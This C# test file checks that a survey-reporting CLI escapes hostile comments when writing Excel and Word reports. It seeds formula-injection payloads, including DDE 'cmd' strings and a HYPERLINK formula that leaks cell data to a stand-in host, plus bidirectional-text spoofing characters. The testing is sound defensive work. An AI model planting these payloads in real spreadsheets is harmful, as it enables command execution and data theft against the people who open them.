using System.Globalization;
using System.IO.Compression;
using System.Text;
using System.Xml.Linq;
using Microsoft.Data.Sqlite;
using Tarmeem.Core.Localization;

namespace Tarmeem.Host.Tests.Cli;

/// <summary>
/// Reports from a store holding hostile comments and channel texts: the workbook has no cell a spreadsheet would
/// evaluate, no part of either document holds a bidi control, and the dates beside the comments are untouched.
/// </summary>
public sealed class HostileInputReportTests
{
    private const string Rlo = "\u202E";

    private static readonly string[] HostileComments =
    [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"اضغط هنا\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        Rlo + "راجعت الفرع يوم ٢٠٢٦/١٠/٢١ وشكراً",
        "\t=1+1",
        "\u2067عزل\u2069 و\u202Bتضمين\u202C و\u200Fعلامة",
    ];

    private static readonly System.Buffers.SearchValues<char> BidiControls =
        System.Buffers.SearchValues.Create("\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069\u200E\u200F\u061C");

    private static readonly XNamespace Sheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

    [Fact]
    public async Task Report_StoreWithHostileComments_DocumentsInertAndFreeOfBidiControls()
    {
        using var temp = new TempFolder();
        var sample = await CliRun.InvokeAsync("report", "--sample", "--format", "xlsx", "--data", temp.Sub("seed"), "--out", temp.Sub("seed-out"));
        Assert.True(sample.ExitCode == 0, sample.Error);
        var data = temp.Sub("data");
        Directory.CreateDirectory(data);
        File.Copy(Path.Combine(temp.Sub("seed"), "sample", "tarmeem.db"), Path.Combine(data, "tarmeem.db"));
        var dates = await PlantAsync(Path.Combine(data, "tarmeem.db"));

        var run = await CliRun.InvokeAsync(
            "report", "--period", "2026-10", "--kind", "management", "--format", "xlsx,docx", "--data", data, "--out", temp.Sub("out"));

        Assert.True(run.ExitCode == 0, run.Error);
        var xlsx = Path.Combine(temp.Sub("out"), "tarmeem-quality-2026-10.xlsx");
        var docx = Path.Combine(temp.Sub("out"), "tarmeem-management-2026-10.docx");
        AssertNoBidiControl(xlsx);
        AssertNoBidiControl(docx);
        var cells = TextCells(xlsx);
        Assert.DoesNotContain(cells, c => c.Text.Length > 0 && c.Text[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
        var quoted = cells.Where(c => c.Text.StartsWith("'=cmd|", StringComparison.Ordinal)).ToList();
        Assert.NotEmpty(quoted);
        Assert.All(quoted, c => Assert.True(c.QuotePrefix, $"{c.Text} is not marked quotePrefix"));
        Assert.Contains(cells, c => c.Text == "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"اضغط هنا\")");
        Assert.Contains(cells, c => c.Text == "راجعت الفرع يوم ٢٠٢٦/١٠/٢١ وشكراً");
        Assert.DoesNotContain(ExcelFormulas(xlsx), f => f.Contains("cmd", StringComparison.OrdinalIgnoreCase) || f.Contains("HYPERLINK", StringComparison.OrdinalIgnoreCase));

        // Each comment is a run of its own, with the direction of its own text: a Latin one is not marked rtl.
        var runs = DocxRuns(docx);
        Assert.Contains(runs, r => r.Text == "راجعت الفرع يوم ٢٠٢٦/١٠/٢١ وشكراً" && r.RightToLeft);
        Assert.Contains(runs, r => r.Text == "=cmd|' /C calc'!A0" && !r.RightToLeft);
        var paragraphs = DocxParagraphs(docx);
        var dated = paragraphs.Single(p => p.Contains("«راجعت الفرع يوم ٢٠٢٦/١٠/٢١ وشكراً»", StringComparison.Ordinal));
        Assert.EndsWith(dates[Array.IndexOf(HostileComments, HostileComments.Single(c => c.StartsWith(Rlo, StringComparison.Ordinal)))], ArabicDigits.ToLatin(dated), StringComparison.Ordinal);
    }

    /// <summary>Writes the hostile comments over the newest October answers and two October cases' channel text; returns the answers' dates as the report prints them.</summary>
    private static async Task<IReadOnlyList<string>> PlantAsync(string database)
    {
        var october = new DateTimeOffset(2026, 10, 1, 0, 0, 0, TimeSpan.FromHours(3)).ToUnixTimeMilliseconds();
        var november = new DateTimeOffset(2026, 11, 1, 0, 0, 0, TimeSpan.FromHours(3)).ToUnixTimeMilliseconds();
        List<string> dates = [];
        await using (var connection = new SqliteConnection($"Data Source={database}"))
        {
            await connection.OpenAsync();
            List<(string Id, long At)> newest = [];
            await using (var select = connection.CreateCommand())
            {
                select.CommandText = "SELECT invitation_id, answered_at FROM survey_responses WHERE answered_at >= $from AND answered_at < $to ORDER BY answered_at DESC LIMIT $n";
                select.Parameters.AddWithValue("$from", october);
                select.Parameters.AddWithValue("$to", november);
                select.Parameters.AddWithValue("$n", HostileComments.Length);
                await using var reader = await select.ExecuteReaderAsync();
                while (await reader.ReadAsync())
                {
                    newest.Add((reader.GetString(0), reader.GetInt64(1)));
                }
            }

            Assert.Equal(HostileComments.Length, newest.Count);
            for (var i = 0; i < newest.Count; i++)
            {
                await using var update = connection.CreateCommand();
                update.CommandText = "UPDATE survey_responses SET comment = $c WHERE invitation_id = $id";
                update.Parameters.AddWithValue("$c", HostileComments[i]);
                update.Parameters.AddWithValue("$id", newest[i].Id);
                Assert.Equal(1, await update.ExecuteNonQueryAsync());
                var local = DateTimeOffset.FromUnixTimeMilliseconds(newest[i].At).ToOffset(TimeSpan.FromHours(3));
                dates.Add(ShortDate(DateOnly.FromDateTime(local.DateTime)));
            }

            await using var cases = connection.CreateCommand();
            cases.CommandText = """
                UPDATE cases SET channel = 'Unspecified', raw_channel = $raw
                WHERE case_number IN (SELECT case_number FROM cases WHERE received_at >= $from AND received_at < $to ORDER BY case_number LIMIT 2)
                """;
            cases.Parameters.AddWithValue("$raw", "=cmd|' /C calc'!A0" + Rlo);
            cases.Parameters.AddWithValue("$from", october);
            cases.Parameters.AddWithValue("$to", november);
            Assert.Equal(2, await cases.ExecuteNonQueryAsync());
        }

        SqliteConnection.ClearAllPools();
        return dates;
    }

    /// <summary>The management report's short date, in Latin digits (the report may print Arabic-Indic ones).</summary>
    private static string ShortDate(DateOnly date) => date.ToString("yyyy/MM/dd", CultureInfo.InvariantCulture);

    private static void AssertNoBidiControl(string path)
    {
        using var zip = ZipFile.OpenRead(path);
        foreach (var entry in zip.Entries)
        {
            // Pictures are pixels: their bytes are not text, and may look like anything when read as UTF-8.
            if (entry.FullName.EndsWith(".png", StringComparison.OrdinalIgnoreCase) || entry.FullName.EndsWith(".jpeg", StringComparison.OrdinalIgnoreCase))
            {
                continue;
            }

            using var reader = new StreamReader(entry.Open(), Encoding.UTF8);
            var text = reader.ReadToEnd();
            var at = text.AsSpan().IndexOfAny(BidiControls);
            Assert.True(at < 0, $"{Path.GetFileName(path)}:{entry.FullName} holds U+{(at < 0 ? 0 : text[at]):X4} at {at}");
        }
    }

    private static List<(string Text, bool QuotePrefix)> TextCells(string xlsx)
    {
        using var zip = ZipFile.OpenRead(xlsx);
        var shared = Load(zip, "xl/sharedStrings.xml").Root!.Elements(Sheet + "si").Select(si => string.Concat(si.Descendants(Sheet + "t").Select(t => t.Value))).ToList();
        var quotedStyles = Load(zip, "xl/styles.xml").Root!.Element(Sheet + "cellXfs")!.Elements(Sheet + "xf")
            .Select(xf => (string?)xf.Attribute("quotePrefix") is "1" or "true").ToList();
        List<(string, bool)> cells = [];
        foreach (var entry in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
        {
            foreach (var c in Load(zip, entry.FullName).Descendants(Sheet + "c"))
            {
                var style = (int?)c.Attribute("s") ?? 0;
                var text = (string?)c.Attribute("t") switch
                {
                    "s" => shared[(int)c.Element(Sheet + "v")!],
                    "inlineStr" => string.Concat(c.Descendants(Sheet + "t").Select(t => t.Value)),
                    "str" => (string)c.Element(Sheet + "v")!,
                    _ => null,
                };
                if (text is not null)
                {
                    cells.Add((text, quotedStyles[style]));
                }
            }
        }

        return cells;
    }

    private static List<string> ExcelFormulas(string xlsx)
    {
        using var zip = ZipFile.OpenRead(xlsx);
        return [.. zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal))
            .SelectMany(e => Load(zip, e.FullName).Descendants(Sheet + "f")).Select(f => f.Value)];
    }

    private static List<string> DocxParagraphs(string docx)
    {
        XNamespace w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
        using var zip = ZipFile.OpenRead(docx);
        return [.. Load(zip, "word/document.xml").Descendants(w + "p").Select(p => string.Concat(p.Descendants(w + "t").Select(t => t.Value)))];
    }

    private static List<(string Text, bool RightToLeft)> DocxRuns(string docx)
    {
        XNamespace w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
        using var zip = ZipFile.OpenRead(docx);
        return [.. Load(zip, "word/document.xml").Descendants(w + "r")
            .Select(r => (string.Concat(r.Elements(w + "t").Select(t => t.Value)), r.Element(w + "rPr")?.Element(w + "rtl") is not null))];
    }

    private static XDocument Load(ZipArchive zip, string name)
    {
        using var stream = zip.GetEntry(name)!.Open();
        return XDocument.Load(stream);
    }
}
